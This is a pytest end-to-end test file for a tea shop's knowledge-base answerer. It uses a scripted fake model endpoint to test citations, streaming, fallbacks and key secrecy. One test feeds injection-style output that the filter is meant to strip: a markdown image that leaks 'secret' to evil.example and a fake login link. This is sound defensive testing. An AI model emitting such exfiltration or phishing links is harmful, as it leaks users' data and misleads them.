from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.asking import QUERY, STREAM, ask, configure
from tests.e2e.corpus import QUESTION
from tests.e2e.system import System, Workspace, events_of, until
from tests.fakes.chat_endpoint import FakeChatEndpoint, Reply, fails, says, sends

KEY = "sk-e2e-4f0c2d77-never-to-be-seen"
MODEL = "tea-expert"
GOOD = says(
    "You can return an opened ",
    "tin within 17 days of delivery [1]. The price",
    " is refunded to your card [1].",
)
ANSWER = (
    "You can return an opened tin within 17 days of delivery. [1] The price is refunded to your card. [1]"
)


class ScriptedEndpoint(FakeChatEndpoint):
    """Replies to every request with `reply`, which tests set."""

    reply: Reply = GOOD

    def next_reply(self) -> Reply:
        """Return what to do with the next request."""
        return self.reply


@pytest.fixture(scope="module")
def running_endpoint() -> Iterator[ScriptedEndpoint]:
    """The endpoint for `endpoint`."""
    endpoint = ScriptedEndpoint()
    yield endpoint
    endpoint.close()


@pytest.fixture
def endpoint(running_endpoint: ScriptedEndpoint) -> ScriptedEndpoint:
    """An endpoint that answers well until a test wants something else, and has heard nothing yet."""
    running_endpoint.reply = GOOD
    running_endpoint.asked.clear()
    return running_endpoint


@pytest.fixture(scope="module")
def parlour(system: System, leaf_pages: Path, running_endpoint: ScriptedEndpoint) -> Workspace:
    """A workspace with the pages of `leaf` that has a language model."""
    workspace = system.workspace("parlour")
    system.cli("kb", "push", str(leaf_pages), key=workspace.key)
    set_model(system, workspace, running_endpoint.base_url)
    until(lambda: ask(workspace, explain=True)["answerer"] == MODEL, "the model to be used", seconds=5)
    return workspace


def set_model(system: System, workspace: Workspace, base_url: str) -> None:
    """Names a workspace's model by the command line; it has a second for an answer."""
    key_file = system.data / f"{workspace.name}.key"
    key_file.write_text(KEY)
    configure(
        system,
        workspace,
        *("--min-confidence", "0"),
        *("--llm-base-url", base_url, "--llm-model", MODEL, "--llm-key-file", str(key_file)),
        *("--llm-timeout-seconds", "1", "--llm-retries", "0"),
    )
    key_file.unlink()


def assert_extractive(told: dict[str, Any]) -> None:
    """The answer stands on its own page's words, and says who gave it."""
    assert told["answered"] is True
    assert told["answerer"] == "extractive"
    assert "You can return an opened tin of tea within 17 days of delivery. [1]" in told["answer"]


def unused_address() -> str:
    """Where nobody listens."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        return f"http://127.0.0.1:{listener.getsockname()[1]}/v1"


@pytest.mark.parametrize("path", [QUERY, STREAM])
def test_the_model_answers(parlour: Workspace, endpoint: ScriptedEndpoint, path: str) -> None:
    """In its own words, with citations at the very characters, and under its own name."""
    told = ask(parlour, path=path, explain=True)
    assert (told["answer"], told["answerer"]) == (ANSWER, MODEL)
    assert told["explanation"]["fallback"] == ""
    assert told["explanation"]["milliseconds"]["generate"] > 0
    cited = [told["answer"][each["start"] : each["end"]] for each in told["citations"]]
    assert cited == [
        "You can return an opened tin within 17 days of delivery.",
        "The price is refunded to your card.",
    ]
    assert {each["source_index"] for each in told["citations"]} == {1}
    assert told["sources"][0]["title"] == "Returns"


def test_the_request_is_the_protocols(parlour: Workspace, endpoint: ScriptedEndpoint) -> None:
    """The pages and the question are data behind our rules; the key is in its header and nowhere else."""
    ask(parlour, exact=True)
    (asked,) = endpoint.asked
    assert asked.path == "/v1/chat/completions"
    assert asked.headers["authorization"] == f"Bearer {KEY}"
    assert (asked.body["model"], asked.body["temperature"]) == (MODEL, 0)
    assert KEY not in str(asked.body)
    assert parlour.key not in str(asked.body)
    rules, *data = asked.body["messages"]
    assert rules["role"] == "system"
    assert "17 days" not in rules["content"]
    assert QUESTION not in rules["content"]
    assert "17 days" in str(data)
    assert QUESTION in str(data)


def test_sentences_are_streamed_as_they_are_written(parlour: Workspace, endpoint: ScriptedEndpoint) -> None:
    """The first one is told while the model still writes the second, each with its citation."""
    first, second = (
        "You can return an opened tin within 17 days of delivery.",
        "The price is refunded to your card.",
    )
    endpoint.reply = says(f"{first} ", f"{second} ")
    body = {"message": QUESTION, "store": False}
    events = events_of(parlour.http.post(STREAM, json=body))
    assert [next(iter(event)) for event in events] == [
        "sources",
        "delta",
        "citation",
        "delta",
        "citation",
        "completed",
    ]
    endpoint.reply = says(f"{first} The price is", then="hang")
    with parlour.http.stream("POST", STREAM, json=body) as answer:
        lines = (line for line in answer.iter_lines() if '"delta"' in line)
        assert first in next(lines)


@pytest.mark.parametrize("path", [QUERY, STREAM])
@pytest.mark.parametrize(
    ("reply", "reason"),
    [
        (fails(401), "AUTHENTICATION"),
        (fails(429), "RATE_LIMITED"),
        (fails(500), "SERVER_ERROR"),
        (fails(400), "REFUSED"),
        (says(then="hang"), "TIMEOUT"),
        (says("You can return", then="drop"), "INTERRUPTED"),
        (sends("data: garbage\n\n"), "MALFORMED"),
        (sends("<html>Busy</html>", "text/html"), "MALFORMED"),
        (says(), "EMPTY"),
        (says("NO_ANSWER"), "NO_ANSWER"),
        (says("You can return a tin within 90 days [1]. We also sell coffee machines [2]."), "UNSUPPORTED"),
        (says("A tin that was", finish="length"), "OVER_BUDGET"),
        (says("I can't", finish="content_filter"), "FILTERED"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_each_failure_falls_back(
    parlour: Workspace, endpoint: ScriptedEndpoint, path: str, reply: Reply, reason: str
) -> None:
    """Whatever the endpoint does, the question is answered from the pages, and the reason can be seen."""
    endpoint.reply = reply
    told = ask(parlour, path=path, explain=True)
    assert_extractive(told)
    assert told["explanation"]["fallback"] == reason
    assert "endpoint-words" not in str(told)
    assert endpoint.asked


@pytest.mark.parametrize("path", [QUERY, STREAM])
def test_an_endpoint_that_is_not_there(system: System, leaf_pages: Path, path: str) -> None:
    """A refused connection is a failure like any other."""
    workspace = system.workspace(f"unplugged-{path.rsplit('/', 1)[-1]}")
    system.cli("kb", "push", str(leaf_pages), key=workspace.key)
    set_model(system, workspace, unused_address())
    until(
        lambda: ask(workspace, path=path, explain=True)["explanation"]["fallback"] == "UNREACHABLE",
        "the model to be missed",
        seconds=5,
    )
    assert_extractive(ask(workspace, path=path))


def test_an_answer_that_breaks_off(parlour: Workspace, endpoint: ScriptedEndpoint) -> None:
    """What was streamed can't be taken back: the pages' answer follows it; whoever waits hears that alone."""
    first = "The price is refunded to your card."
    endpoint.reply = says(f"{first} You can", then="drop")
    streamed = ask(parlour, path=STREAM, explain=True)
    assert streamed["answer"].startswith(f"{first} [1]\n\n")
    assert_extractive(streamed)
    for each in streamed["citations"]:
        cited = streamed["answer"][each["start"] : each["end"]]
        assert cited.endswith(".")
        assert "[" not in cited
    whole = ask(parlour, explain=True)
    assert_extractive(whole)
    assert not whole["answer"].startswith(first)
    assert streamed["explanation"]["fallback"] == whole["explanation"]["fallback"] == "INTERRUPTED"


@pytest.mark.parametrize("path", [QUERY, STREAM])
def test_no_injected_link_comes_out(parlour: Workspace, endpoint: ScriptedEndpoint, path: str) -> None:
    """A link or an image that the pages do not hold is left out, whatever the model was made to write."""
    endpoint.reply = says(
        "You can return an opened tin within 17 days of delivery [1]. ",
        "![seal](https://evil.example/?q=secret) The price is refunded to your card [1]. ",
        "You can [return an opened tin](https://evil.example/login) within 17 days of delivery [1]. ",
        "See https://evil.example/more for the rest.",
    )
    told = ask(parlour, path=path)
    assert told["answerer"] == MODEL
    assert "17 days" in told["answer"]
    assert "evil.example" not in str(told)


def test_invented_markers_and_numbers_are_cut(parlour: Workspace, endpoint: ScriptedEndpoint) -> None:
    """Markers name given passages only; a sentence with a number of its own is left out."""
    endpoint.reply = says(
        "You can return an opened tin within 17 days of delivery [9]. ",
        "The price is refunded to your card [1]. You also get 250 points for each tin.",
    )
    told = ask(parlour)
    assert (told["answer"], told["answerer"]) == (ANSWER, MODEL)


def test_what_is_withheld_is_not_asked(parlour: Workspace, endpoint: ScriptedEndpoint) -> None:
    """No model is paid for a question that the pages do not answer."""
    told = ask(parlour, min_confidence=1, explain=True)
    assert (told["answered"], told["answerer"]) == (False, "extractive")
    assert endpoint.asked == []


def test_a_follow_up_is_rewritten(parlour: Workspace, endpoint: ScriptedEndpoint) -> None:
    """By the model, for search; the answer then is to that question."""
    history = [{"role": "user", "content": QUESTION}, {"role": "assistant", "content": "Within 17 days. [1]"}]
    endpoint.reply = says("Who pays the postage of a return of tea?")
    told = ask(parlour, "And who pays for that?", history=history, explain=True)
    assert told["explanation"]["question"] == "Who pays the postage of a return of tea?"
    assert told["explanation"]["milliseconds"]["rewrite"] > 0
    assert len(endpoint.asked) == 2


def test_a_stored_answer_is_what_was_told(parlour: Workspace, endpoint: ScriptedEndpoint) -> None:
    """The transcript has the model's text, not the draft."""
    told = parlour.http.post(QUERY, json={"message": QUESTION}).json()
    assert told["answer"] == ANSWER
    path = f"/v1/conversations/{told['conversation_id']}"
    assert parlour.http.get(path).json()["messages"][1]["content"] == ANSWER


def test_another_workspace_has_no_model(
    system: System, leaf: Workspace, parlour: Workspace, endpoint: ScriptedEndpoint
) -> None:
    """A model answers for the workspace that named it."""
    told = ask(leaf, min_confidence=0)
    assert_extractive(told)
    assert endpoint.asked == []


def test_the_key_is_seen_nowhere(system: System, parlour: Workspace, endpoint: ScriptedEndpoint) -> None:
    """Neither in a file that the system keeps, its logs among them, nor where settings are shown."""
    for reply in (GOOD, fails(401), says(then="drop")):
        endpoint.reply = reply
        ask(parlour)
    shown = system.cli("answering", "show", "--workspace", parlour.name)
    assert "language_model.key_set" in shown.stdout
    assert KEY not in shown.stdout
    assert not any(KEY in line for line in system.lines)
    files = [file for file in system.data.rglob("*") if file.is_file()]
    assert any(file.parent.name == "logs" for file in files)
    assert [file for file in files if KEY.encode() in file.read_bytes()] == []
